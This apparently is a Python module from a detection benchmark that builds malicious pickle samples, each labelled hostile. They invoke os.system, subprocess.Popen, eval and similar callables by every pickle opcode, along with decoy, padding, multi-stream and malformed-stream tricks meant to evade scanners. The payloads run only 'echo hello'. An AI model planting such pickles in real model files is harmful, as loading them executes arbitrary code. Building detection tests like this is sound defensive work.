"""Pickles that name and call a function by every opcode that can, and broken ones.

The function is always one that any list denies: what is tried here is the way to it.
"""

from __future__ import annotations

import struct
from typing import TYPE_CHECKING

from benchmarks.detection.opcodes import (
    PRINT,
    Code,
    call,
    fetch,
    fetch_stack,
    long_text,
    short_text,
    stream,
    value,
)
from benchmarks.detection.sample import Sample, Truth

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["samples"]

_ECHO = "echo hello"
_OS, _SYSTEM = short_text("os"), short_text("system")
_CALL = value((_ECHO,)) + b"R"
_ACT = fetch("os:system") + _CALL
_PLAIN = value({"weights": [1, 2, 3]})


def _texts() -> dict[str, bytes]:
    """Every opcode that makes a text which STACK_GLOBAL takes for a name."""
    spelled = {
        "short-binunicode": short_text,
        "binunicode": long_text,
        "binunicode8": lambda t: b"\x8d" + struct.pack("<Q", len(t)) + t.encode(),
        "unicode": lambda t: b"V" + t.encode() + b"\n",
        "unicode-escaped": lambda t: (
            b"V" + "".join(f"\\u{ord(c):04x}" for c in t).encode() + b"\n"
        ),
        "string": lambda t: b"S'" + t.encode() + b"'\n",
        "string-double": lambda t: b'S"' + t.encode() + b'"\n',
        "string-escaped": lambda t: (
            b"S'" + "".join(f"\\x{ord(c):02x}" for c in t).encode() + b"'\n"
        ),
        "string-octal": lambda t: (
            b"S'" + "".join(f"\\{ord(c):03o}" for c in t).encode() + b"'\n"
        ),
        "binstring": lambda t: b"T" + struct.pack("<I", len(t)) + t.encode(),
        "short-binstring": lambda t: b"U" + bytes((len(t),)) + t.encode(),
    }
    return {
        f"text-{name}": write("os") + write("system") + b"\x93" + _CALL
        for name, write in spelled.items()
    }


def _memo() -> dict[str, bytes]:
    """Names that go through the memo and the stack before they are used."""
    far = b"\xff\xff\x0f\x00"
    decoys = short_text("collections") + b"\x94" + short_text("OrderedDict") + b"\x94"
    return {
        "memoize": _SYSTEM + b"\x940" + _OS + b"h\x00\x93" + _CALL,
        "binput": _OS + b"q\x050" + _SYSTEM + b"q\x060" + b"h\x05h\x06\x93" + _CALL,
        "put-and-get": _OS + b"p7\n0" + b"g7\n" + _SYSTEM + b"\x93" + _CALL,
        "put-far": _OS + b"p1000000\n0" + b"g1000000\n" + _SYSTEM + b"\x93" + _CALL,
        "put-spaced": _OS + b"p 7 \n0" + b"g7\n" + _SYSTEM + b"\x93" + _CALL,
        "long-binput-far": _OS + b"r" + far + b"0j" + far + _SYSTEM + b"\x93" + _CALL,
        "put-and-binget": _OS + b"p9\n0h\x09" + _SYSTEM + b"\x93" + _CALL,
        "overwritten": short_text("math")
        + b"q\x000"
        + _OS
        + b"q\x000h\x00"
        + _SYSTEM
        + b"\x93"
        + _CALL,
        "mixed-counters": _OS
        + b"q\x000"
        + _SYSTEM
        + b"q\x010"
        + decoys
        + b"00"
        + b"h\x00h\x01\x93"
        + _CALL,
        "memoize-after-put": _OS
        + b"q\x05"
        + b"0"
        + _SYSTEM
        + b"\x940"
        + b"h\x05h\x01\x93"
        + _CALL,
        "dup": _SYSTEM + b"20" + b"q\x000" + _OS + b"h\x00\x93" + _CALL,
        "dup-of-function": fetch("os:system") + b"2" + _CALL + b"0" + _CALL,
        "memo-of-function": fetch("os:system") + b"q\x000Nh\x00" + _CALL + b"\x86",
        "memo-of-arguments": value((_ECHO,))
        + b"q\x000"
        + fetch("os:system")
        + b"h\x00R",
        "popped-decoys": short_text("collections")
        + short_text("OrderedDict")
        + b"00"
        + _OS
        + _SYSTEM
        + b"\x93"
        + _CALL,
        "decoy-by-mark": b"("
        + short_text("collections")
        + b"1"
        + _OS
        + _SYSTEM
        + b"\x93"
        + _CALL,
        "decoy-between": _OS + short_text("x") + b"0" + _SYSTEM + b"\x93" + _CALL,
        "numbers-between": _OS + b"K\x01" + b"0" + _SYSTEM + b"N0\x93" + _CALL,
        "swapped": _SYSTEM + b"\x94" + _OS + b"\x9400" + b"h\x01h\x00\x93" + _CALL,
    }


def _naming() -> dict[str, bytes]:
    return {
        "global-crlf": b"cos\r\nsystem\r\n" + _CALL,
        "global-of-c": b"cposix\nsystem\n" + _CALL,
        "global-of-windows": b"cnt\nsystem\n" + _CALL,
        "global-spaced": b"cos \nsystem\n" + _CALL,
        "global-dotted-module": b"cos.path.os\nsystem\n" + _CALL,
        "stack-global-dotted": short_text("collections")
        + short_text("abc.sys.modules.get")
        + b"\x93"
        + value(("os",))
        + b"R",
        "python-2-builtins": b"c__builtin__\neval\n" + value(("1+1",)) + b"R",
        "python-2-commands": b"ccommands\ngetoutput\n" + _CALL,
        "python-2-urllib2": b"curllib2\nurlopen\n"
        + value(("http://a.invalid",))
        + b"R",
        "python-2-copy-reg": b"ccopy_reg\n_reconstructor\n(csubprocess\nPopen\n"
        b"c__builtin__\nobject\nNtR",
        "python-2-thread": b"cthread\nstart_new_thread\n(cos\nsystem\n"
        + value((_ECHO,))
        + b"tR",
        "python-2-reduce": b"c__builtin__\nreduce\n(cos\nsystem\n"
        + value([_ECHO])
        + b"tR",
        "python-2-intern": b"c__builtin__\nexecfile\n" + value(("a.py",)) + b"R",
        "nested-class": fetch_stack("idlelib.run:Executive.runcode") + _CALL,
        "ext1": b"\x82\x01" + _CALL,
        "ext2": b"\x83\x00\x02" + _CALL,
        "ext4": b"\x84\x00\x00\x00\x01" + _CALL,
        "ext-registered": call("copyreg:add_extension", "os", "system", 200)
        + b"0"
        + b"\x82\xc8"
        + _CALL,
        "persid": b"Pstorage\n0" + _ACT,
        "persid-called": b"Pos.system\n" + _CALL,
        "binpersid": short_text("os.system") + b"Q" + _CALL,
        "binpersid-around": _ACT + b"Q",
        "next-buffer": b"\x97\x980" + _ACT,
        "byte-array": b"\x96\x02" + bytes(7) + b"ab0" + _ACT,
        "name-in-frame": b"\x95\x04"
        + bytes(7)
        + _OS
        + b"\x95\x08"
        + bytes(7)
        + _SYSTEM
        + b"\x93"
        + _CALL,
        "name-of-bytes": b"C\x02osC\x06system\x93" + _CALL,
        "unicode-look-alike": "c\uff4f\uff53\nsystem\n".encode() + _CALL,
    }


def _calling() -> dict[str, bytes]:
    state = b"(" + value("__setstate__") + fetch("os:system") + b"d"
    return {
        "reduce": _ACT,
        "reduce-empty": fetch("os:getcwd") + b")R",
        "reduce-of-list": fetch("os:system") + value([_ECHO]) + b"R",
        "reduce-tuple1": fetch("os:system") + value(_ECHO) + b"\x85R",
        "reduce-tuple2": fetch("os:putenv") + value("a") + value("b") + b"\x86R",
        "reduce-tuple3": fetch("os:spawnl")
        + b"K\x00"
        + value("a")
        + value("b")
        + b"\x87R",
        "inst": b"(" + value(_ECHO) + b"ios\nsystem\n",
        "inst-empty": b"(ios\ngetcwd\n",
        "inst-text": b"(S'echo hello'\nios\nsystem\n",
        "obj": b"(" + fetch("os:system") + value(_ECHO) + b"o",
        "obj-stack-global": b"(" + fetch_stack("os:system") + value(_ECHO) + b"o",
        "obj-from-memo": fetch("os:system") + b"q\x000(h\x00" + value(_ECHO) + b"o",
        "newobj": fetch("subprocess:Popen") + value((_ECHO,)) + b"\x81",
        "newobj-function": fetch("os:system") + value((_ECHO,)) + b"\x81",
        "newobj-ex": fetch("subprocess:Popen")
        + value(())
        + value({"args": _ECHO})
        + b"\x92",
        "newobj-ex-positional": fetch("subprocess:Popen") + value((_ECHO,)) + b"}\x92",
        "build-setstate": Code(
            fetch("torch.nn.modules.linear:Linear")
            + b")\x81"
            + value({"__setstate__": fetch("os:system")})
            + b"b"
            + value(_ECHO)
            + b"b"
        ),
        "build-slots": Code(
            fetch("torch.nn.modules.linear:Linear")
            + b")\x81"
            + b"N"
            + value({"__class__": fetch("subprocess:Popen")})
            + b"\x86b"
            + value(_ACT and call("os:system", _ECHO))
            + b"b"
        ),
        "build-of-class": fetch("collections:OrderedDict") + state + b"b",
        "build-of-function": fetch("builtins:len") + value({"__call__": 1}) + b"b",
        "append-to-import": fetch("sys:path") + value("/a") + b"a",
        "appends-to-import": fetch("sys:path") + b"(" + value("/a") + b"e",
        "set-item-of-import": fetch("sys:modules") + value("os") + b"Ns",
        "set-items-of-import": fetch("os:environ")
        + b"("
        + value("A")
        + value("b")
        + b"u",
        "add-items-to-import": fetch("site:ENABLE_USER_SITE") + b"(K\x01\x90",
        "call-in-dictionary": b"}(" + value("a") + _ACT + b"u",
        "call-in-set": b"\x8f(" + _ACT + b"\x90",
        "call-in-frozen-set": b"(" + _ACT + b"\x91",
        "call-popped": _ACT + b"0N",
        "call-before-pop-mark": b"(" + _ACT + b"1N",
        "call-then-decoy": _ACT + b"0" + _PLAIN,
        "many-harmless-calls-before": call("collections:OrderedDict")
        + b"0"
        + (call("fractions:Fraction", 1, 2) + b"0") * 5000
        + _ACT,
        "many-names-before": b"".join(
            fetch(f"collections:N{n}") + b"0" for n in range(500)
        )
        + _ACT,
        "much-data-before": value(b"\0" * 70_000) + b"0" + _ACT,
        "at-window-edge": value(b"\0" * 65_520) + b"0" + _ACT,
    }


def _broken() -> dict[str, bytes]:
    """Streams that break behind the call: a loader has run it by then."""
    two, four = b"\x80\x02" + _ACT, b"\x80\x04" + _ACT
    return {
        "no-stop": two,
        "no-stop-protocol-0": _ACT,
        "garbage": two + b"\xff\xfe\xfd garbage",
        "text-after": two + b"hello there",
        "zeros-after": two + bytes(64),
        "underflow": two + b"0000.",
        "underflow-of-reduce": two + b"0R.",
        "underflow-of-tuple": two + b"0\x87.",
        "missing-mark": two + b"t.",
        "missing-memo": two + b"hc.",
        "missing-memo-text": two + b"gx\n.",
        "bad-number": two + b"Ixyz\n.",
        "bad-float": two + b"Fxyz\n.",
        "bad-string": two + b"S'open\n.",
        "bad-utf-8": two + b"X\x02\0\0\0\xff\xfe.",
        "cut-length": two + b"X\xff\xff",
        "cut-text": two + b"X\xff\0\0\0abc",
        "length-too-large": four + b"\x8e" + b"\xff" * 8 + b".",
        "negative-length": two + b"T\xff\xff\xff\xff.",
        "frame-too-large": b"\x80\x04\x95" + struct.pack("<Q", 9999) + _ACT + b".",
        "frame-too-small": b"\x80\x04\x95" + struct.pack("<Q", 3) + _ACT + b".",
        "frame-of-nothing": b"\x80\x04\x95" + struct.pack("<Q", 0) + _ACT + b".",
        "frame-behind": four + b"\x95" + struct.pack("<Q", 1 << 40) + b".",
        "protocol-too-high": b"\x80\x02" + _ACT + b"\x80\x09.",
        "protocol-twice": b"\x80\x02\x80\x04" + _ACT + b".",
        "protocol-too-low": b"\x80\x00"
        + short_text("os")
        + short_text("system")
        + b"\x93"
        + _CALL
        + b".",
        "protocol-late": _ACT + b"0\x80\x04N.",
        "no-protocol": short_text("os") + short_text("system") + b"\x93" + _CALL + b".",
        "unknown-opcode": two + b"\x99.",
        "unknown-opcode-zero": two + b"\x00.",
        "constant-called": two + b"K\x01)R.",
        "missing-module": two + b"cno_such_module_here\nname\n)R.",
        "extension-zero": two + b"\x82\x00.",
        "stack-global-of-numbers": two + b"K\x01K\x02\x93.",
        "set-item-of-number": two + b"K\x01K\x02K\x03s.",
        "build-of-number": two + b"K\x01K\x02b.",
        "stop-on-empty": two + b"0.",
        "stop-first": b"\x80\x02N." + _ACT,
        "cut-in-arguments": b"\x80\x02" + _ACT + b"cos\nsys",
        "mark-left-open": two + b"(((.",
        "only-fetched": b"\x80\x02" + fetch("os:system") + b"\xff",
    }


def _several() -> dict[str, bytes]:
    """More than one stream in a file: a loader may be told to go on."""
    plain0, plain2, plain4 = (stream(_PLAIN, protocol=p) for p in (0, 2, 4))
    bad0, bad4 = stream(_ACT, protocol=0), stream(_ACT, protocol=4)
    return {
        "second": plain2 + PRINT,
        "second-protocol-0": plain0 + bad0,
        "second-protocol-4": plain4 + bad4,
        "second-mixed": plain4 + bad0,
        "second-mixed-back": plain0 + bad4,
        "third": plain2 * 2 + PRINT,
        "hundredth": plain2 * 99 + PRINT,
        "between": plain2 + PRINT + plain2,
        "behind-nothing": b"N." + PRINT,
        "behind-numbers": b"I1\n.I2\n." + bad0,
        "second-broken": plain2 + b"\x80\x02" + _ACT,
        "second-broken-by-garbage": plain2 + b"\x80\x02" + _ACT + b"\xff\xff",
        "behind-legacy-torch": b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
        b"\x80\x02M\xe9\x03.\x80\x02}." + PRINT,
        "legacy-torch-object": b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
        b"\x80\x02M\xe9\x03.\x80\x02}." + plain2 + PRINT + b"\x80\x02].",
        "padded": plain2 + b"\n" + PRINT,
        "padded-by-zeros": plain2 + bytes(16) + PRINT,
        "padded-by-text": plain2 + b"# weights follow\n" + PRINT,
    }


def samples() -> Iterator[Sample]:
    """Give every way to name, to call, to break and to hide behind another stream."""
    for what, codes in (
        ("name", {**_texts(), **_memo(), **_naming()}),
        ("call", _calling()),
    ):
        for name, code in codes.items():
            for protocol in (2, 4) if len(code) < 400 else (4,):
                yield _sample(
                    f"{what}-{name}-protocol-{protocol}",
                    f"{what} by {name}",
                    stream(code, protocol=protocol),
                )
    for protocol in (0, 1, 3, 5):
        yield _sample(
            f"call-reduce-protocol-{protocol}", "call", stream(_ACT, protocol=protocol)
        )
    for what, whole in (("broken", _broken()), ("several", _several())):
        for name, data in whole.items():
            yield _sample(f"{what}-{name}", f"{what}: {name}", data)


def _sample(name: str, technique: str, data: bytes) -> Sample:
    return Sample(
        name=name,
        family="pickle-opcodes",
        technique=technique,
        truth=Truth.HOSTILE,
        files={"model.pkl": data},
    )
